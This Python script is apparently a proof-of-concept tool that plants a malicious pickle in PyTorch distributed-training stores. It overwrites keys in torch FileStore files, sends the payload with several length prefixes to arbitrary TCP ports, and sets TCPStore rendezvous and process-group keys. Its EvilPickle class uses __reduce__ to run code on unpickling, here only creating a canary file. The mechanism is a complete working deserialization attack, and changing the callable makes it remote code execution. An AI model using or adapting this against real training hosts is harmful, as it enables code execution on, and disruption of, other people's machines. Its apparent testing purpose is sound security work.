"""Plant a pickle wherever a run reads bytes that a stranger may have written: in every key of its
stores, and into every port.

    python planting.py CANARY FILE... ADDRESS:PORT...

A process that unpickles it creates the file CANARY.
"""

import os
import pickle
import socket
import struct
import sys
import threading
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

WAIT_S = 3.0
# Keys under which torch's rendezvous, stores and process groups store values.
KEYS = (
    "/rdzv/state",
    "torch.rendezvous.none",
    "default_pg/0//cpu//0",
    "default_pg/0//cpu//1",
    "store_based_barrier_key:1",
)


class EvilPickle:
    """An object whose unpickling creates the file `canary`."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, tuple[str, ...]]:
        return (Path.touch, (Path(self.canary),))  # type: ignore[return-value]


def plant_in_file(path: Path, payload: bytes) -> int:
    """Overwrite every key of a torch FileStore with the payload, and return how many keys it had.

    The file is a list of lengths, keys and values in which the last value of a key counts; KEYS are
    added.
    """
    raw, offset, keys = path.read_bytes(), 0, []
    while offset < len(raw):
        parts = []
        for _ in range(2):
            (size,) = struct.unpack_from("<i", raw, offset)
            parts.append(raw[offset + 4 : offset + 4 + size])
            offset += 4 + size
        keys.append(parts[0])
    with path.open("ab") as file:
        for key in {*keys, *(f"/{name}".encode() for name in KEYS)} - {b"refcount/"}:
            file.write(
                struct.pack("<i", len(key)) + key + struct.pack("<i", len(payload)) + payload
            )
    return len(keys)


def plant_in_ports(addresses: list[str], payload: bytes) -> dict[str, int]:
    """Send the payload to each `address:port`: plain, and behind its length in the forms that
    libraries use; then as a client of torch's TCPStore.

    Returns how many times it was sent to each. All ports are tried at once: a rank that a stranger
    has talked to may end, and the others with it.
    """
    sent = dict.fromkeys(addresses, 0)
    connections = [
        (address, socket.create_connection(_split_address(address), WAIT_S))
        for address in addresses
    ]
    for head in (
        b"",
        struct.pack("<q", len(payload)),
        struct.pack(">q", len(payload)),
        struct.pack("<i", len(payload)),
    ):
        for address, connection in connections:
            with suppress(OSError):
                connection.sendall(head + payload)
                sent[address] += 1
        connections = [
            (address, connection_again)
            for address in addresses
            for connection_again in _try_connect(address)
        ]
    clients = [
        threading.Thread(target=_set_store_keys, args=(address, payload), daemon=True)
        for address in addresses
    ]
    for client in clients:
        client.start()
    for client in clients:
        # where no store answers, torch's client waits longer than its timeout
        client.join(WAIT_S)
    return sent


def _set_store_keys(address: str, payload: bytes) -> None:
    """Set every key of KEYS in a TCPStore to the payload; an address where no store answers is
    skipped.
    """
    import torch.distributed as dist

    with suppress(RuntimeError):
        store = dist.TCPStore(
            *_split_address(address), None, False, timeout=timedelta(seconds=WAIT_S)
        )  # type: ignore[attr-defined]
        for key in KEYS:
            store.set(key, payload)


def _try_connect(address: str) -> list[socket.socket]:
    """Return a new connection in a list; an empty list if there is none any more."""
    with suppress(OSError):
        return [socket.create_connection(_split_address(address), WAIT_S)]
    return []


def _split_address(target: str) -> tuple[str, int]:
    """Return host and port of `address:port`."""
    address, _, port = target.rpartition(":")
    return address, int(port)


def main(canary: str, *targets: str) -> None:
    """Plant the pickle in each target, and print the target and how many times it was planted."""
    payload = pickle.dumps(EvilPickle(canary))
    for path in [target for target in targets if target.startswith("/")]:
        print(path, plant_in_file(Path(path), payload))
    for target, times in plant_in_ports(
        [target for target in targets if not target.startswith("/")], payload
    ).items():
        print(target, times)


if __name__ == "__main__":
    main(*sys.argv[1:])
    sys.stdout.flush()
    os._exit(0)  # without waiting for clients that still wait
